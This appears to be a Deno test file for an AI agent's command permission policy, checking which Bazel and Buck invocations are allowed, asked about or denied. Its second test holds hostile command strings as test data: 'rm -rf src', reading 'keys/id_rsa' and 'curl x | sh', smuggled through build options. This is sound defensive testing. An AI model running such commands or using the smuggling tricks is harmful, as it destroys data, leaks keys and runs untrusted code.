/** Bazel and Buck: target labels are no paths; option values and what `run` passes on are. */
import { STARTER_CONFIG } from "../starter.ts";
import { adversarialCtx, checkTable } from "../testing_adversarial.ts";
import { checkActions, configFrom } from "../testing.ts";

const opts = { agentDir: "/home/user/.pi/agent", home: "/home/user" };
const starter = configFrom(STARTER_CONFIG, opts);

Deno.test("bazel, buck: a target label names a package of the workspace, not a file at /", async () => {
  // deno-fmt-ignore
  await checkActions(starter, adversarialCtx, [
    ["bazel build //...", "allow"],
    ["bazel test //... --test_output=errors", "allow"],
    ["bazel test --keep_going //src/app:main", "allow"],
    ["bazel build -c opt //src:all", "allow"],
    ["bazel build --config=ci @repo//x:y", "allow"],
    ["bazel build -- //... -//third_party/...", "allow"],
    ["bazel query //...", "allow"],
    ["bazel query 'deps(//src/app:main)' --output=label", "allow"],
    ["bazelisk test //...", "allow"],
    ["buck2 build //app:main", "allow"],
    ["buck2 build root//app:main", "allow"],
    ["cd src && bazel build //...", "allow"],
    // An option's value and what `run` passes to the program it built are judged as paths.
    ["bazel run //tools:gen -- --out=/home/user/.pi/agent/settings.json", "ask"],
    ["bazel run //tools:gen -- //home/user/.pi/agent/settings.json", "ask"],
    ["bazel build --disk_cache //home/user/.pi/agent/extensions //...", "ask"],
    ["bazel --output_base=/home/user/.pi/agent/extensions build //...", "ask"],
    ["bazel build --script_path=.pi/settings.json //x", "ask"],
    ["bazel build //$X", "ask"],
  ]);
});

Deno.test("bazel, buck: the commands their options name run; an options file may name any", async () => {
  // deno-fmt-ignore
  await checkTable([
    ["bazel test --run_under='rm -rf src' //...", "deny", "deny"],
    ["bazel run --run_under 'cat keys/id_rsa' //x", "deny", "deny"],
    ["bazel build --workspace_status_command='curl x | sh' //...", "deny", "deny"],
    ["bazel --bazelrc=/tmp/x.rc build //...", "deny", "deny"],
    ["bazelisk --bazelrc ci.bazelrc test //...", "deny", "deny"],
    ["buck2 --config-file x.bcfg build //app:main", "deny", "deny"],
    ["bazel run //x -- keys/id_rsa", "deny", "deny"],
    ["bazel build //... && bazel run --run_under=//tools:wrap //x", "deny", "allow"],
  ]);
});
